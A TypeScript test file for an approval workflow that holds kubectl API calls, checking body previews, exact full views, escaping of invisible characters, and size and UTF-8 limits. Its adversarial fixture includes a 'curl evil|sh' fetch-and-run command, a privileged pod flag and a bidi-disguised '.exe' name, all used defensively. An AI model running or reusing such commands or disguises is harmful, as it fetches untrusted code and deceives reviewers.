import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { apiFullChange, fullChangeSize } from '../../../../src/core/changes/full-change.ts';
import { MAX_FULL_CHANGE_CHARS } from '../../../../src/core/changes/refuse-unshowable-change.ts';
import { UserFacingError } from '../../../../src/core/errors.ts';
import type { Principal } from '../../../../src/core/ports/identity.ts';
import type { ApiRequest } from '../../../../src/core/requests/request-types.ts';
import { screenApiRequest } from '../../../../src/core/workflow/screen-api-request.ts';
import { workflowFixture } from '../workflow/workflow-harness.ts';
import { adversarialBody, adversarialManifest, apiRequestWithBody, bodyCard } from './adversarial-body.ts';

const kubectlUser: Principal = {
  platform: 'kubectl',
  platformUserId: 'alice',
  username: 'alice',
  groups: [],
};
const input = (request: ApiRequest) => ({ request, requester: kubectlUser, text: 'kubectl create …' });

/** A compact JSON body whose full view is exactly `size` characters. */
function bodyOfShownSize(size: number): string {
  const shown = (pad: string) =>
    fullChangeSize(apiFullChange(apiRequestWithBody(JSON.stringify({ pad })).call)!);
  return JSON.stringify({ pad: 'p'.repeat(size - shown('')) });
}

void describe('the full request of a held kubectl call', () => {
  void test('the card says the size and how much it shows; the full view has the whole body, exactly', () => {
    assert.equal(
      bodyCard.change?.notice,
      'Request body 632 bytes; the card shows its first 199 characters — Show full request has the whole body, exactly as forwarded',
    );
    const preview = bodyCard.preview.join('\n');
    assert.ok(
      !preview.includes('privileged') && !preview.includes('curl evil'),
      'the card line stops before them',
    );
    assert.ok(preview.includes(bodyCard.change.full.call!.sha256), 'the SHA-256 stays on the card');
    const full = bodyCard.change.full;
    assert.equal(full.kind, 'api');
    assert.ok(full.sent.includes('"privileged": true') && full.sent.includes('"curl evil|sh"'));
    assert.ok(
      !full.sent.includes('\u202e') && full.sent.includes('\\u202egnp.exe'),
      'bidi shown as its escape',
    );
    assert.equal(
      JSON.stringify(JSON.parse(full.sent)),
      adversarialBody,
      'the view is the forwarded bytes laid out: compacted again it is the body itself',
    );
    assert.deepEqual(JSON.parse(full.sent), adversarialManifest);
    assert.equal(full.call?.prettyPrinted, true);
  });

  void test('a body that is not its own compact JSON is shown exactly as sent, not re-serialised', () => {
    for (const body of [
      '{"spec":{"replicas":1},"spec":{"replicas":50}}',
      '{"n": 1.0}',
      'kind: Pod\n\tname: x\n',
    ]) {
      const full = apiFullChange(apiRequestWithBody(body).call);
      assert.equal(full?.call?.prettyPrinted, false, body);
      assert.equal(full?.sent, body.replace('\t', '\\u0009'), 'only invisible characters become escapes');
    }
  });

  void test('filing refuses a body whose full view is over the limit, naming size and limit; nothing is stored', async () => {
    const { deps, store } = workflowFixture();
    const big = apiRequestWithBody(bodyOfShownSize(MAX_FULL_CHANGE_CHARS + 1));
    await assert.rejects(screenApiRequest(deps, input(big)), (error: unknown) => {
      assert.ok(error instanceof UserFacingError);
      assert.equal(error.code, 'change_too_large');
      assert.match(
        error.message,
        /body is 5996 bytes, 6001 characters as the card's full view shows it; the limit is 6000/,
      );
      assert.match(error.message, /Nothing was filed/);
      return true;
    });
    assert.deepEqual(await store.listOpenByRequester('alice'), []);
    const atLimit = await screenApiRequest(
      deps,
      input(apiRequestWithBody(bodyOfShownSize(MAX_FULL_CHANGE_CHARS))),
    );
    assert.equal(atLimit.kind, 'filed', 'a body exactly at the limit is filed');
  });

  void test('filing refuses a body that is not UTF-8 text', async () => {
    const { deps, store } = workflowFixture();
    const request = apiRequestWithBody('{"a":"\ufffd"}');
    const notText: ApiRequest = { ...request, call: { ...request.call, bodyNotUtf8: true } };
    await assert.rejects(screenApiRequest(deps, input(notText)), /not UTF-8 text/);
    assert.deepEqual(await store.listOpenByRequester('alice'), []);
  });

  void test('a call policy auto-approves is not affected, however large its body', async () => {
    const { deps } = workflowFixture();
    const big = apiRequestWithBody(bodyOfShownSize(MAX_FULL_CHANGE_CHARS * 3));
    const staging: ApiRequest = { ...big, namespace: 'staging-web' };
    assert.equal((await screenApiRequest(deps, input(staging))).kind, 'pass');
  });
});
